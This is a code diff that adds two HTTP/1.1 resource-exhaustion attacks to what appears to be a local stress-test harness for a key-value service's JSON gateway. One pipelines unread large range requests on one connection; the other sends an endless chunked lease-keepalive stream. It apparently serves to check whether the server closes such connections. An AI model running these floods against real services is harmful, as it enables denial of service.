@@ -184,6 +184,40 @@ def unread_replies(port: int, seconds: float) -> dict:
     return {"requests": sid // 2, "closed_by_server": a.closed}
 
 
+class Http1Attacker(Attacker):
+    """An HTTP/1.1 client of the JSON gateway, on the same terms (never reads)."""
+
+    def __init__(self, port: int, deadline: float):  # no HTTP/2 preface
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+        self.sock.setblocking(False)
+        self.deadline = deadline
+        self.sent = 0
+        self.closed = False
+
+
+def gateway_unread_replies(port: int, seconds: float) -> dict:
+    """Pipelined JSON Ranges of a 1 MB value on one keep-alive connection; replies never read."""
+    a = Http1Attacker(port, time.monotonic() + seconds)
+    body = b'{"key":"L2hvc3RpbGUvYmln"}'  # /hostile/big
+    request = b"POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
+    n = 0
+    while a.send(request * 50):
+        n += 50
+    return {"requests": n, "closed_by_server": a.closed}
+
+
+def gateway_keepalive_flood(port: int, seconds: float) -> dict:
+    """One streaming LeaseKeepAlive whose chunked body never ends; answers never read."""
+    a = Http1Attacker(port, time.monotonic() + seconds)
+    a.send(b"POST /v3/lease/keepalive HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
+    piece = b'{"ID":"1"}' * 1000
+    chunk = b"%x\r\n%s\r\n" % (len(piece), piece)
+    n = 0
+    while a.send(chunk):
+        n += 1000
+    return {"requests": n, "closed_by_server": a.closed}
+
+
 ATTACKS = {
     "watch-flood": watch_flood,
     "keepalive-flood": keepalive_flood,
@@ -194,6 +228,8 @@ ATTACKS = {
     "unknown-frame-flood": cheap_frames("unknown"),
     "rapid-reset": rapid_reset,
     "unread-replies": unread_replies,
+    "gateway-unread-replies": gateway_unread_replies,
+    "gateway-keepalive-flood": gateway_keepalive_flood,
 }
 
 
